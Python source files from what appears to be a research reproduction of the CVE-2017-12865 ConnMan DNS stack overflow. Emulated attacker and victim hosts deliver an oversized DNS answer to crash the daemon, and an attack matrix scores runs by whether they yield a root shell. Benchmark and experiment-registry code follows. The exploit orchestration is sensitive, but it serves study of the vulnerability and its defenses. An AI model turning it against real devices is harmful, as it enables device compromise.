        DNS_PORT, lambda payload, _dgram: server.handle_query(payload)
    )

    def upstream(packet: bytes) -> Optional[bytes]:
        return victim_host.send_udp(attacker_host.ip, DNS_PORT, packet)

    victim_host.bind_udp(
        DNS_PORT,
        lambda payload, _dgram: daemon.handle_client_query(payload, upstream),
    )
    query = make_query(rng.randrange(1 << 16), DEFAULT_LURE).encode()
    with collector.tracer.span(
        "exploit.attempt", exploit=exploit.name, strategy=exploit.strategy,
        lure=DEFAULT_LURE,
    ) as span:
        client.send_udp(victim_host.ip, DNS_PORT, query)
        if daemon.last_event is not None:
            span.attrs["outcome"] = daemon.last_event.kind.value
    return ObservedAttack(collector, network, daemon, exploit, daemon.last_event)


def run_forced_crash(
    *,
    arch: str = "x86",
    version: str = "1.34",
    seed: int = 0xC4A5,
    observer: Optional[Collector] = None,
    taint: bool = False,
) -> ObservedAttack:
    """Force the CVE-2017-12865 stack smash over the wire; capture forensics.

    An unprotected daemon forwards one lure query to an upstream that
    answers with an oversized Type A name (the naive E1 blob).  The parse
    crashes the guest, and the collector ends the run holding a
    :class:`~repro.obs.CrashReport` whose causal span resolves to the
    exact malicious datagram (``repro postmortem`` renders it).
    """
    from .experiments import naive_overflow_blob

    collector = observer if observer is not None else Collector()
    if taint and collector.taint is None:
        from ..obs.taint import TaintEngine

        collector.attach_taint(TaintEngine())
    rng = random.Random(seed)
    network, client, victim_host, attacker_host = _attack_lan(collector)
    daemon = ConnmanDaemon(arch=arch, version=version, profile=NONE,
                           rng=rng, observer=collector)
    blob = naive_overflow_blob()

    def crash_server(payload: bytes, _dgram) -> Optional[bytes]:
        try:
            query = Message.decode(payload)
        except Exception:
            return None
        return build_raw_response(query, blob)

    attacker_host.bind_udp(DNS_PORT, crash_server)

    def upstream(packet: bytes) -> Optional[bytes]:
        return victim_host.send_udp(attacker_host.ip, DNS_PORT, packet)

    victim_host.bind_udp(
        DNS_PORT,
        lambda payload, _dgram: daemon.handle_client_query(payload, upstream),
    )
    query = make_query(rng.randrange(1 << 16), "crash-me.example").encode()
    with collector.tracer.span("exploit.attempt", exploit="naive-overflow",
                               strategy="dos", lure="crash-me.example") as span:
        client.send_udp(victim_host.ip, DNS_PORT, query)
        if daemon.last_event is not None:
            span.attrs["outcome"] = daemon.last_event.kind.value
    return ObservedAttack(collector, network, daemon, None, daemon.last_event)
