"""The paper's attack scenarios as runnable objects.

One :class:`AttackScenario` = one cell of the §III experiment matrix
(architecture x protection level).  Running it performs the full loop:
boot the victim, recon on an attacker bench copy, build the strategy the
ladder prescribes, deliver over DNS, observe the outcome.
"""

from __future__ import annotations

import random
from dataclasses import dataclass
from typing import List, Optional, Tuple

from ..connman import ConnmanDaemon, DaemonEvent, EventKind
from ..defenses import PAPER_LEVELS, ProtectionProfile
from ..exploit import Debugger, Exploit, ExploitError, TargetKnowledge, builder_for, deliver


@dataclass(frozen=True)
class AttackScenario:
    arch: str
    level_label: str
    profile: ProtectionProfile
    version: str = "1.34"

    @property
    def key(self) -> str:
        return f"{self.arch}/{self.level_label}"


#: The six §III-A/B/C cells, in paper order.
PAPER_MATRIX: Tuple[AttackScenario, ...] = tuple(
    AttackScenario(arch=arch, level_label=label, profile=profile)
    for arch in ("x86", "arm")
    for label, profile in PAPER_LEVELS
)


@dataclass
class ScenarioResult:
    scenario: AttackScenario
    exploit: Optional[Exploit]
    event: Optional[DaemonEvent]
    error: str = ""

    @property
    def succeeded(self) -> bool:
        return (
            self.event is not None
            and self.event.kind == EventKind.COMPROMISED
            and self.event.is_root_shell
        )

    @property
    def outcome(self) -> str:
        if self.error:
            return f"not built: {self.error}"
        assert self.event is not None
        return "root shell" if self.succeeded else self.event.describe()

    def row(self) -> Tuple[str, str, str, str]:
        strategy = self.exploit.strategy if self.exploit else "-"
        return (self.scenario.arch, self.scenario.level_label, strategy, self.outcome)


def attacker_knowledge(scenario: AttackScenario,
                       rng: Optional[random.Random] = None) -> TargetKnowledge:
    """Recon on the attacker's bench copy of the same firmware (ASLR off on
    the bench; blindness matches the victim's ASLR setting)."""
    bench = ConnmanDaemon(
        arch=scenario.arch,
        version=scenario.version,
        profile=scenario.profile.with_(aslr=False),
        rng=rng,
    )
    return Debugger(bench).knowledge(aslr_blind=scenario.profile.aslr)


def run_scenario(scenario: AttackScenario,
                 rng: Optional[random.Random] = None) -> ScenarioResult:
    """One full attack: boot victim, recon, build, deliver, observe."""
    rng = rng or random.Random(0x5EED)
    victim = ConnmanDaemon(
        arch=scenario.arch, version=scenario.version, profile=scenario.profile,
        rng=rng,
    )
    knowledge = attacker_knowledge(scenario)
    builder = builder_for(scenario.arch, scenario.profile)
    try:
        exploit = builder.build(knowledge)
    except ExploitError as why:
        return ScenarioResult(scenario=scenario, exploit=None, event=None, error=str(why))
    report = deliver(exploit, victim, rng=rng)
    return ScenarioResult(scenario=scenario, exploit=exploit, event=report.event)


def run_paper_matrix(version: str = "1.34") -> List[ScenarioResult]:
    """All six cells of the §III matrix."""
    return [
        run_scenario(AttackScenario(s.arch, s.level_label, s.profile, version))
        for s in PAPER_MATRIX
    ]
