"""Microbenchmark harness for the emulation core (decode-cache baseline).

The benchmark drives each emulator's fetch-decode-execute loop over a tight
self-branching loop — 9 distinct instructions executed tens of thousands of
times — once with the decode cache disabled (every step pays a ``decode()``
call) and once enabled (steady state is all cache hits).  The decode-call
counts come straight from the cache's own counters, so the headline ratio
is deterministic; wall-clock numbers are environment-dependent and recorded
alongside for trend tracking, not asserted in CI.

``collect_baseline`` emits the ``repro-bench/v1`` JSON payload committed
under ``benchmarks/``; ``validate_baseline`` is the CI smoke check.
"""

from __future__ import annotations

from time import perf_counter
from typing import Dict, Sequence

from ..cpu import Process, make_emulator
from ..cpu.arm.asm import add_imm, b as arm_b
from ..mem import AddressSpace, Perm, Segment
from ..obs.metrics import Histogram

BENCH_SCHEMA = "repro-bench/v1"

#: Step-latency histogram bounds, in microseconds.
STEP_US_BUCKETS = (1.0, 2.0, 5.0, 10.0, 25.0, 50.0, 100.0, 500.0)

_CODE_BASE = 0x0804_8000

#: The committed-baseline acceptance floor: caching must cut decode() calls
#: by at least this factor on the tight loop.
MIN_DECODE_CALL_RATIO = 3.0


def _loop_code(arch: str) -> bytes:
    """A 9-instruction infinite loop (8 increments + a back branch).

    The x86 loop is eight ``inc eax`` one-byte opcodes and a ``jmp rel8``
    back to the top; the ARM loop is eight ``add r1, r1, #1`` words and an
    unconditional ``b`` (the emulated ARM subset has no conditional
    branches, so the loop never terminates — the harness bounds it by step
    count, not by control flow).
    """
    if arch == "x86":
        return b"\x40" * 8 + b"\xeb\xf6"  # jmp rel8 back to _CODE_BASE
    body = b"".join(add_imm("r1", "r1", 1) for _ in range(8))
    return body + arm_b(_CODE_BASE + len(body), _CODE_BASE)


def _build_loop_emulator(arch: str):
    """A minimal process whose pc sits on the benchmark loop (R|X text)."""
    memory = AddressSpace()
    code = _loop_code(arch)
    memory.map(Segment(".text", _CODE_BASE, 0x1000, Perm.R | Perm.X))
    memory.write(_CODE_BASE, code, check=False)  # loader-style text install
    process = Process(arch, memory, name=f"bench-{arch}")
    process.pc = _CODE_BASE
    return make_emulator(process)


def run_microbench(arch: str = "x86", steps: int = 12_000, *,
                   cache_enabled: bool = True) -> Dict[str, object]:
    """Run ``steps`` emulated instructions; report decode/wall counters.

    Steps the emulator directly (no run-loop budget, no native dispatch)
    so the numbers isolate the fetch-decode-execute path.  The per-step
    latency histogram uses the opt-in ``step_timer`` hook — the same one
    the normal (deterministic) paths leave unset.
    """
    emulator = _build_loop_emulator(arch)
    process = emulator.process
    cache = process.decode_cache
    cache.enabled = cache_enabled
    timer = Histogram("step_us", STEP_US_BUCKETS)
    started = perf_counter()
    for _ in range(steps):
        step_started = perf_counter()
        emulator.step()
        timer.observe((perf_counter() - step_started) * 1e6)
    wall_s = max(perf_counter() - started, 1e-9)
    return {
        "arch": arch,
        "steps": steps,
        "cache_enabled": cache_enabled,
        "decode_calls": cache.misses,
        "cache_hits": cache.hits,
        "wall_s": wall_s,
        "steps_per_s": steps / wall_s,
        "step_us": {
            "mean": timer.mean,
            "min": timer.min,
            "max": timer.max,
            "count": timer.count,
        },
    }


def collect_baseline(steps: int = 12_000,
                     arches: Sequence[str] = ("x86", "arm")) -> Dict[str, object]:
    """Uncached-vs-cached comparison for each arch (the BENCH payload)."""
    benchmarks = []
    for arch in arches:
        baseline = run_microbench(arch, steps, cache_enabled=False)
        cached = run_microbench(arch, steps, cache_enabled=True)
        benchmarks.append({
            "name": f"{arch}-tight-loop",
            "arch": arch,
            "steps": steps,
            "baseline": baseline,
            "cached": cached,
            "decode_call_ratio": baseline["decode_calls"] / max(cached["decode_calls"], 1),
            "wall_speedup": baseline["wall_s"] / cached["wall_s"],
        })
    return {"schema": BENCH_SCHEMA, "steps": steps, "benchmarks": benchmarks}


def validate_baseline(payload: Dict[str, object]) -> Dict[str, object]:
    """Structural + invariant checks for a BENCH payload; raises ValueError.

    Only deterministic quantities are asserted hard (decode-call counts and
    their ratio); wall-clock fields just have to be present and positive,
    so the check never flakes on a loaded CI runner.
    """
    if not isinstance(payload, dict) or payload.get("schema") != BENCH_SCHEMA:
        raise ValueError(f"bench payload schema must be {BENCH_SCHEMA!r}")
    benchmarks = payload.get("benchmarks")
    if not isinstance(benchmarks, list) or not benchmarks:
        raise ValueError("bench payload has no benchmarks")
    for entry in benchmarks:
        name = entry.get("name", "<unnamed>")
        for key in ("arch", "steps", "baseline", "cached",
                    "decode_call_ratio", "wall_speedup"):
            if key not in entry:
                raise ValueError(f"{name}: missing {key!r}")
        for side in ("baseline", "cached"):
            run = entry[side]
            for key in ("decode_calls", "cache_hits", "wall_s", "steps_per_s"):
                if key not in run:
                    raise ValueError(f"{name}.{side}: missing {key!r}")
            if run["wall_s"] <= 0 or run["steps_per_s"] <= 0:
                raise ValueError(f"{name}.{side}: non-positive wall fields")
        if entry["baseline"]["decode_calls"] != entry["baseline"]["steps"]:
            raise ValueError(
                f"{name}: uncached run must decode every step "
                f"({entry['baseline']['decode_calls']} != {entry['baseline']['steps']})"
            )
        if entry["decode_call_ratio"] < MIN_DECODE_CALL_RATIO:
            raise ValueError(
                f"{name}: decode_call_ratio {entry['decode_call_ratio']:.2f} "
                f"below the {MIN_DECODE_CALL_RATIO}x acceptance floor"
            )
    return payload
