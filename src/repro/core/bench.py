"""Microbenchmark harness for the emulation core.

Two benchmark families per architecture, both over the same tight
self-branching loop (9 distinct instructions executed tens of thousands of
times):

- ``<arch>-tight-loop`` (kind ``decode-cache``) steps the emulator directly,
  decode cache off vs on — every uncached step pays a ``decode()`` call,
  steady cached state is all cache hits.  Unchanged from schema v1.
- ``<arch>-tight-loop-blocks`` (kind ``blocks``) drives the full run loop to
  budget exhaustion, superblock translation off vs on — the baseline is the
  decode-cache-only dispatch path, the cached side executes almost every
  step through compiled blocks (:mod:`repro.cpu.blocks`).

Deterministic quantities (decode-call counts, the fraction of steps executed
through blocks) come straight from the caches' own counters and are asserted
hard; wall-clock numbers are environment-dependent and recorded for trend
tracking, compared only via machine-normalized ratios.

``collect_baseline`` emits the ``repro-bench/v2`` JSON payload committed
under ``benchmarks/``; ``validate_baseline`` is the CI smoke check, and
``compare_baseline`` is the regression gate: a fresh payload is compared
against the committed one with noise-tolerant thresholds (deterministic
quantities exactly; throughput via the cached/uncached ratio so a slower CI
runner cannot fake a regression).  Every gated run appends one line to the
``benchmarks/trajectory.jsonl`` perf history.
"""

from __future__ import annotations

import json
import os
from datetime import datetime, timezone
from time import perf_counter
from typing import Dict, List, Optional, Sequence

from ..cpu import Process, make_emulator
from ..cpu.arm.asm import add_imm, b as arm_b
from ..mem import AddressSpace, Perm, Segment
from ..obs.metrics import Histogram

#: v2 added the superblock dispatch benchmarks and the per-entry ``kind``
#: discriminator; v1 payloads no longer validate.
BENCH_SCHEMA = "repro-bench/v2"

#: Step-latency histogram bounds, in microseconds.
STEP_US_BUCKETS = (1.0, 2.0, 5.0, 10.0, 25.0, 50.0, 100.0, 500.0)

_CODE_BASE = 0x0804_8000

#: The committed-baseline acceptance floor: caching must cut decode() calls
#: by at least this factor on the tight loop.
MIN_DECODE_CALL_RATIO = 3.0

#: Acceptance floor for block dispatch: with blocks on, at least this
#: fraction of the run's steps must execute through compiled blocks.  The
#: tight loop's true share is steps-dependent but ~0.999 (only the final
#: sub-block budget remainder single-steps), far above the floor.
MIN_BLOCK_STEP_SHARE = 0.9


def _loop_code(arch: str) -> bytes:
    """A 9-instruction infinite loop (8 increments + a back branch).

    The x86 loop is eight ``inc eax`` one-byte opcodes and a ``jmp rel8``
    back to the top; the ARM loop is eight ``add r1, r1, #1`` words and an
    unconditional ``b`` (the emulated ARM subset has no conditional
    branches, so the loop never terminates — the harness bounds it by step
    count, not by control flow).
    """
    if arch == "x86":
        return b"\x40" * 8 + b"\xeb\xf6"  # jmp rel8 back to _CODE_BASE
    body = b"".join(add_imm("r1", "r1", 1) for _ in range(8))
    return body + arm_b(_CODE_BASE + len(body), _CODE_BASE)


def _build_loop_emulator(arch: str):
    """A minimal process whose pc sits on the benchmark loop (R|X text)."""
    memory = AddressSpace()
    code = _loop_code(arch)
    memory.map(Segment(".text", _CODE_BASE, 0x1000, Perm.R | Perm.X))
    memory.write(_CODE_BASE, code, check=False)  # loader-style text install
    process = Process(arch, memory, name=f"bench-{arch}")
    process.pc = _CODE_BASE
    return make_emulator(process)


def run_microbench(arch: str = "x86", steps: int = 12_000, *,
                   cache_enabled: bool = True) -> Dict[str, object]:
    """Run ``steps`` emulated instructions; report decode/wall counters.

    Steps the emulator directly (no run-loop budget, no native dispatch)
    so the numbers isolate the fetch-decode-execute path.  The per-step
    latency histogram uses the opt-in ``step_timer`` hook — the same one
    the normal (deterministic) paths leave unset.
    """
    emulator = _build_loop_emulator(arch)
    process = emulator.process
    cache = process.decode_cache
    cache.enabled = cache_enabled
    timer = Histogram("step_us", STEP_US_BUCKETS)
    started = perf_counter()
    for _ in range(steps):
        step_started = perf_counter()
        emulator.step()
        timer.observe((perf_counter() - step_started) * 1e6)
    wall_s = max(perf_counter() - started, 1e-9)
    return {
        "arch": arch,
        "steps": steps,
        "cache_enabled": cache_enabled,
        "decode_calls": cache.misses,
        "cache_hits": cache.hits,
        "wall_s": wall_s,
        "steps_per_s": steps / wall_s,
        "step_us": {
            "mean": timer.mean,
            "min": timer.min,
            "max": timer.max,
            "count": timer.count,
        },
    }


def run_dispatch_bench(arch: str = "x86", steps: int = 12_000, *,
                       blocks_enabled: bool = True) -> Dict[str, object]:
    """Run the full run loop to budget exhaustion; report dispatch counters.

    Unlike :func:`run_microbench` this goes through ``Emulator.run`` — the
    path every experiment takes — so superblock dispatch engages.  The
    decode cache stays on in both variants: with blocks off this measures
    the decode-cache-only dispatch baseline the block layer is built over.
    """
    emulator = _build_loop_emulator(arch)
    process = emulator.process
    blocks = process.block_cache
    blocks.enabled = blocks_enabled
    cache = process.decode_cache
    started = perf_counter()
    result = emulator.run(max_steps=steps)
    wall_s = max(perf_counter() - started, 1e-9)
    return {
        "arch": arch,
        "steps": result.steps,
        "outcome": result.reason,
        "blocks_enabled": blocks_enabled,
        "decode_calls": cache.misses,
        "cache_hits": cache.hits,
        "block_steps": blocks.steps,
        "block_execs": blocks.hits,
        "block_builds": blocks.builds,
        "wall_s": wall_s,
        "steps_per_s": result.steps / wall_s,
    }


def collect_baseline(steps: int = 12_000,
                     arches: Sequence[str] = ("x86", "arm")) -> Dict[str, object]:
    """Off-vs-on comparison per arch and cache layer (the BENCH payload)."""
    benchmarks = []
    for arch in arches:
        baseline = run_microbench(arch, steps, cache_enabled=False)
        cached = run_microbench(arch, steps, cache_enabled=True)
        benchmarks.append({
            "name": f"{arch}-tight-loop",
            "kind": "decode-cache",
            "arch": arch,
            "steps": steps,
            "baseline": baseline,
            "cached": cached,
            "decode_call_ratio": baseline["decode_calls"] / max(cached["decode_calls"], 1),
            "wall_speedup": baseline["wall_s"] / cached["wall_s"],
        })
    for arch in arches:
        baseline = run_dispatch_bench(arch, steps, blocks_enabled=False)
        cached = run_dispatch_bench(arch, steps, blocks_enabled=True)
        benchmarks.append({
            "name": f"{arch}-tight-loop-blocks",
            "kind": "blocks",
            "arch": arch,
            "steps": steps,
            "baseline": baseline,
            "cached": cached,
            "block_step_share": cached["block_steps"] / steps,
            "wall_speedup": baseline["wall_s"] / cached["wall_s"],
        })
    return {"schema": BENCH_SCHEMA, "steps": steps, "benchmarks": benchmarks}


def validate_baseline(payload: Dict[str, object]) -> Dict[str, object]:
    """Structural + invariant checks for a BENCH payload; raises ValueError.

    Only deterministic quantities are asserted hard (decode-call counts,
    their ratio, and the block-dispatch step share); wall-clock fields just
    have to be present and positive, so the check never flakes on a loaded
    CI runner.
    """
    if not isinstance(payload, dict) or payload.get("schema") != BENCH_SCHEMA:
        raise ValueError(f"bench payload schema must be {BENCH_SCHEMA!r}")
    benchmarks = payload.get("benchmarks")
    if not isinstance(benchmarks, list) or not benchmarks:
        raise ValueError("bench payload has no benchmarks")
    for entry in benchmarks:
        name = entry.get("name", "<unnamed>")
        kind = entry.get("kind")
        if kind not in ("decode-cache", "blocks"):
            raise ValueError(f"{name}: unknown benchmark kind {kind!r}")
        keys = ("arch", "steps", "baseline", "cached", "wall_speedup",
                "decode_call_ratio" if kind == "decode-cache" else "block_step_share")
        for key in keys:
            if key not in entry:
                raise ValueError(f"{name}: missing {key!r}")
        for side in ("baseline", "cached"):
            run = entry[side]
            for key in ("decode_calls", "cache_hits", "wall_s", "steps_per_s"):
                if key not in run:
                    raise ValueError(f"{name}.{side}: missing {key!r}")
            if run["wall_s"] <= 0 or run["steps_per_s"] <= 0:
                raise ValueError(f"{name}.{side}: non-positive wall fields")
        if kind == "decode-cache":
            if entry["baseline"]["decode_calls"] != entry["baseline"]["steps"]:
                raise ValueError(
                    f"{name}: uncached run must decode every step "
                    f"({entry['baseline']['decode_calls']} != {entry['baseline']['steps']})"
                )
            if entry["decode_call_ratio"] < MIN_DECODE_CALL_RATIO:
                raise ValueError(
                    f"{name}: decode_call_ratio {entry['decode_call_ratio']:.2f} "
                    f"below the {MIN_DECODE_CALL_RATIO}x acceptance floor"
                )
        else:
            if entry["baseline"].get("block_steps", 0) != 0:
                raise ValueError(
                    f"{name}: blocks-off baseline executed "
                    f"{entry['baseline']['block_steps']} steps through blocks")
            for side in ("baseline", "cached"):
                if entry[side]["steps"] != entry["steps"]:
                    raise ValueError(
                        f"{name}.{side}: run must exhaust its step budget "
                        f"({entry[side]['steps']} != {entry['steps']})")
            if entry["block_step_share"] < MIN_BLOCK_STEP_SHARE:
                raise ValueError(
                    f"{name}: block_step_share {entry['block_step_share']:.3f} "
                    f"below the {MIN_BLOCK_STEP_SHARE} acceptance floor")
    return payload


# -- profiled attribution --------------------------------------------------------

ATTRIBUTION_SCHEMA = "repro-bench-attribution/v1"


def profile_attribution(steps: int = 12_000,
                        arches: Sequence[str] = ("x86", "arm"),
                        *, top: int = 8) -> Dict[str, object]:
    """Per-opcode/per-block attribution of the dispatch benchmark.

    Runs the same loop as the ``blocks`` benchmark with a
    :class:`~repro.obs.profiler.DeterministicProfiler` attached (stack
    sampling off — this is pure cost attribution), so a perf PR can show
    *which* opcodes and blocks it sped up, not just the aggregate ratio.
    The wall-clock correlation rides the separate opt-in
    :class:`~repro.obs.profiler.WallClockProfiler` layer: deterministic
    attribution and machine-dependent steps/second never mix.
    """
    from ..obs.profiler import DeterministicProfiler, WallClockProfiler

    wall = WallClockProfiler()
    entries: List[Dict[str, object]] = []
    for arch in arches:
        emulator = _build_loop_emulator(arch)
        process = emulator.process
        profiler = DeterministicProfiler(sample_interval=0)
        process.profiler = profiler
        with wall.section(f"{arch}-tight-loop-blocks") as section:
            result = emulator.run(max_steps=steps)
        section.steps = result.steps
        data = profiler.data
        entries.append({
            "arch": arch,
            "steps": result.steps,
            "block_steps": data.block_steps,
            "top_opcodes": [
                {"opcode": name, "steps": count}
                for name, count in data.opcode_table(top)
            ],
            "hot_blocks": [
                {**row, "entry": f"{row['entry']:#010x}"}
                for row in data.block_table(4)
            ],
            "cache": dict(sorted(data.cache.items())),
        })
    return {
        "schema": ATTRIBUTION_SCHEMA,
        "steps": steps,
        "benchmarks": entries,
        "wall": wall.to_dict(),
    }


def describe_attribution(payload: Dict[str, object]) -> str:
    """Text rendering of a :func:`profile_attribution` payload."""
    lines = []
    wall_by_label = {
        section["label"]: section
        for section in payload.get("wall", {}).get("sections", [])
    }
    for entry in payload["benchmarks"]:
        arch = entry["arch"]
        lines.append(
            f"ATTRIBUTION {arch}: {entry['steps']} steps "
            f"({entry['block_steps']} via blocks)")
        total = max(entry["steps"], 1)
        for row in entry["top_opcodes"]:
            lines.append(
                f"  {row['opcode']:<10} {row['steps']:>8} "
                f"{100.0 * row['steps'] / total:5.1f}%")
        for row in entry["hot_blocks"]:
            amortized = row["steps"] / row["builds"] if row["builds"] else 0.0
            lines.append(
                f"  block {row['entry']} len={row['length']} "
                f"dispatches={row['dispatches']} steps={row['steps']} "
                f"steps/build={amortized:.1f}")
        wall = wall_by_label.get(f"{arch}-tight-loop-blocks")
        if wall is not None and wall.get("steps_per_second"):
            lines.append(
                f"  wall correlation: {wall['wall_seconds']:.4f}s "
                f"({wall['steps_per_second']:.0f} steps/s, "
                f"machine-dependent)")
    return "\n".join(lines)


# -- regression gate -------------------------------------------------------------

COMPARE_SCHEMA = "repro-bench-compare/v1"
TRAJECTORY_SCHEMA = "repro-bench-trajectory/v1"

#: Cached throughput may lose at most this fraction (machine-normalized)
#: before the gate trips — wall-clock noise tolerance, not a free pass.
MAX_CACHED_DROP = 0.25

#: Block-dispatch coverage may drop at most this much between payloads.
#: The share is steps-dependent only through the final budget remainder
#: (< one block), so even the CI smoke at --steps 3000 sits within half a
#: percent of the committed 12000-step share.
MAX_BLOCK_SHARE_DROP = 0.005


def _speedup(entry: Dict[str, object]) -> float:
    """Cached-vs-uncached throughput ratio within one payload.

    Both runs execute on the same machine in the same process, so their
    ratio cancels machine speed out — it is the noise-tolerant form of
    "cached ``steps_per_s``" that survives a loaded CI runner.
    """
    return (entry["cached"]["steps_per_s"] /
            entry["baseline"]["steps_per_s"])


def compare_baseline(old: Dict[str, object], new: Dict[str, object], *,
                     max_drop: float = MAX_CACHED_DROP) -> Dict[str, object]:
    """Regression verdict for ``new`` measured against baseline ``old``.

    Per-benchmark checks, deterministic ones asserted exactly:

    - the benchmark must still exist (a silently dropped benchmark is a
      regression, not a cleanup);
    - ``decode-cache`` entries: the decode-call floor must not regress —
      steady-state ``decode_calls`` with the cache enabled may not exceed
      the baseline's;
    - ``blocks`` entries: the block-dispatch floor must not regress — the
      fraction of steps executed through compiled blocks may not drop more
      than :data:`MAX_BLOCK_SHARE_DROP` below the baseline's (both shares
      are steps-independent up to the final budget remainder);
    - all entries: normalized cached throughput (cached/uncached
      ``steps_per_s`` ratio) may not drop more than ``max_drop`` below the
      baseline's ratio.

    Returns a report dict (never raises on a regression — the caller
    decides the exit code); raises ``ValueError`` only when either
    payload fails :func:`validate_baseline`.
    """
    validate_baseline(old)
    validate_baseline(new)
    new_by_name = {entry["name"]: entry for entry in new["benchmarks"]}
    checks: List[Dict[str, object]] = []
    for entry in old["benchmarks"]:
        name = entry["name"]
        fresh = new_by_name.get(name)
        if fresh is None:
            checks.append({
                "name": name, "check": "present", "old": True, "new": False,
                "ok": False, "detail": "benchmark missing from fresh payload",
            })
            continue
        if entry["kind"] == "decode-cache":
            old_calls = entry["cached"]["decode_calls"]
            new_calls = fresh["cached"]["decode_calls"]
            checks.append({
                "name": name, "check": "decode_call_floor",
                "old": old_calls, "new": new_calls, "ok": new_calls <= old_calls,
                "detail": f"cached decode() calls {old_calls} -> {new_calls}",
            })
        else:
            old_share = entry["block_step_share"]
            new_share = fresh["block_step_share"]
            share_floor = old_share - MAX_BLOCK_SHARE_DROP
            checks.append({
                "name": name, "check": "block_dispatch_floor",
                "old": round(old_share, 5), "new": round(new_share, 5),
                "ok": new_share >= share_floor,
                "detail": (f"block step share {old_share:.4f} -> "
                           f"{new_share:.4f} (floor {share_floor:.4f})"),
            })
        old_speedup = _speedup(entry)
        new_speedup = _speedup(fresh)
        floor = (1.0 - max_drop) * old_speedup
        checks.append({
            "name": name, "check": "cached_throughput",
            "old": round(old_speedup, 4), "new": round(new_speedup, 4),
            "ok": new_speedup >= floor,
            "detail": (f"normalized cached throughput "
                       f"{old_speedup:.2f}x -> {new_speedup:.2f}x "
                       f"(floor {floor:.2f}x)"),
        })
    return {
        "schema": COMPARE_SCHEMA,
        "ok": all(check["ok"] for check in checks),
        "max_drop": max_drop,
        "checks": checks,
    }


def describe_comparison(result: Dict[str, object]) -> str:
    lines = []
    for check in result["checks"]:
        status = "ok  " if check["ok"] else "FAIL"
        lines.append(f"GATE {status} {check['name']}.{check['check']}: "
                     f"{check['detail']}")
    verdict = "pass" if result["ok"] else "REGRESSION"
    lines.append(f"GATE verdict: {verdict} "
                 f"(throughput tolerance {result['max_drop']:.0%})")
    return "\n".join(lines)


def trajectory_entry(payload: Dict[str, object],
                     compare_ok: Optional[bool] = None,
                     when: Optional[str] = None,
                     attribution: Optional[Dict[str, object]] = None
                     ) -> Dict[str, object]:
    """One compact perf-history line for ``benchmarks/trajectory.jsonl``.

    ``attribution`` (a :func:`profile_attribution` payload) rides along
    so future perf PRs can show *which* opcodes/blocks they sped up; the
    wall section is dropped — history lines stay machine-comparable.
    """
    entry = {
        "schema": TRAJECTORY_SCHEMA,
        "when": when or datetime.now(timezone.utc).isoformat(timespec="seconds"),
        "steps": payload["steps"],
        "compare_ok": compare_ok,
        "benchmarks": [_trajectory_benchmark(entry)
                       for entry in payload["benchmarks"]],
    }
    if attribution is not None:
        entry["attribution"] = {
            "schema": attribution["schema"],
            "steps": attribution["steps"],
            "benchmarks": attribution["benchmarks"],
        }
    return entry


def _trajectory_benchmark(entry: Dict[str, object]) -> Dict[str, object]:
    compact = {
        "name": entry["name"],
        "kind": entry.get("kind", "decode-cache"),
        "cached_steps_per_s": round(entry["cached"]["steps_per_s"], 1),
        "baseline_steps_per_s": round(entry["baseline"]["steps_per_s"], 1),
        "wall_speedup": round(entry["wall_speedup"], 3),
    }
    if "decode_call_ratio" in entry:
        compact["decode_call_ratio"] = round(entry["decode_call_ratio"], 2)
    if "block_step_share" in entry:
        compact["block_step_share"] = round(entry["block_step_share"], 5)
    return compact


def append_trajectory(path: str, entry: Dict[str, object]) -> None:
    """Append one JSON line; creates the history file on first use."""
    directory = os.path.dirname(path)
    if directory:
        os.makedirs(directory, exist_ok=True)
    with open(path, "a", encoding="utf-8") as handle:
        handle.write(json.dumps(entry, sort_keys=True) + "\n")
