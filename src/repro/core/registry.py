"""Declarative experiment registry: specs, grids, and the results artifact.

E1–E16 used to be hand-wired into ``cli.py``'s dispatch table — every new
paper scenario (fleet campaigns, the exploit × defense × arch matrix) had
to be re-plumbed through the CLI, chaos runner, report, and bench gate by
hand.  This module replaces the wiring with data:

* :class:`ExperimentSpec` — one experiment's declaration: id, title,
  parameter grid, seed-derivation rule, SLO rules, and expected-outcome
  predicate.  Registered with the :func:`register_experiment` decorator;
  the CLI resolves experiments from :data:`REGISTRY` instead of a
  hand-written table.
* :func:`run_experiment` — the grid orchestrator.  It expands a spec's
  parameter grid into seeded :class:`GridTrial`\\ s, shards them through
  the supervised runner (:func:`~repro.core.parallel.run_supervised`)
  with :class:`~repro.core.resume.SweepCheckpoint` journaling, and folds
  the positional results into an :class:`ExperimentRun`.  The parity
  invariant every prior PR preserved holds here too: trials carry their
  own derived seeds, so ``workers=N`` is bit-identical to sequential and
  a killed, ``--resume``\\ d grid reproduces the uninterrupted artifact
  byte for byte.
* the ``repro-results/v1`` columnar artifact — one JSONL row per trial
  (parameters, derived seed, outcome, metrics, full result table) that
  ``repro report``, ``repro dash --results``, and the bench
  ``--compare --results`` gate all read.  Serialization lives in
  :mod:`repro.core.resume` next to the checkpoint journal.

Seed-derivation rule
--------------------

:func:`derive_seed` is the registry's one seed rule: crc32 over a
``/``-joined key of ``(experiment, entropy, run, role)``.  Arithmetic
seed stacking correlates adjacent trials — E15's historical
``attacker_seed = victim_seed + 1`` collided with the XOR-derived victim
seed of the neighboring run, silently sharing RNG streams between
trials.  A digest keyed by the full trial identity gives every role of
every trial an independent stream, and (unlike ``hash()``) is stable
across processes and PYTHONHASHSEED draws.
"""

from __future__ import annotations

import inspect
import itertools
import zlib
from dataclasses import dataclass, field
from typing import (Any, Callable, Dict, FrozenSet, Iterable, List, Mapping,
                    Optional, Sequence, Tuple)

from ..obs import Collector
from ..obs.slo import (SWEEP_SLOS, SloReport, SloRule, evaluate_slos,
                       parse_rules)
from .parallel import DEFAULT_POLICY, RunPolicy, SweepStats, run_supervised
from .report import render_table
from .resume import (RESULTS_SCHEMA, SweepCheckpoint, TrialFailure,
                     grid_hash as compute_grid_hash)


def derive_seed(*parts: object) -> int:
    """The registry's seed rule: crc32 over ``(experiment, entropy, run,
    role)``-style key parts, joined with ``/``.

    Every consumer of trial randomness derives through this — registry
    grid trials, the E15 entropy sweep's victim/attacker streams — so no
    two (trial, role) pairs can collide the way XOR/``+1`` stacking did.
    """
    key = "/".join(str(part) for part in parts)
    return zlib.crc32(key.encode("utf-8")) & 0x7FFFFFFF


@dataclass(frozen=True)
class GridTrial:
    """One expanded grid point: the picklable unit the pool executes.

    ``params`` is a sorted tuple of ``(name, value)`` pairs (not a dict)
    so the trial is hashable and its ``repr`` — which feeds the
    checkpoint grid hash — is deterministic.
    """

    experiment: str
    index: int
    params: Tuple[Tuple[str, Any], ...]
    seed: int

    @property
    def derived_seed(self) -> int:
        """Failure-context seed (the supervised runner looks for this)."""
        return self.seed

